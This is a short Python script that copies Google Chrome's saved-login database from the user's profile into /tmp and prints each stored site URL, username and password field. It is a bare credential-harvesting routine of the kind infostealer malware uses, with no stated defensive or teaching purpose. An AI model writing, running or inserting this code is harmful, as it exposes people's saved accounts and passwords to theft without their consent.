import os
import shutil
import sqlite3

source = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
shutil.copy(source, "/tmp/l.db")
for row in sqlite3.connect("/tmp/l.db").execute("SELECT origin_url, username_value, password_value FROM logins"):
    print(row)
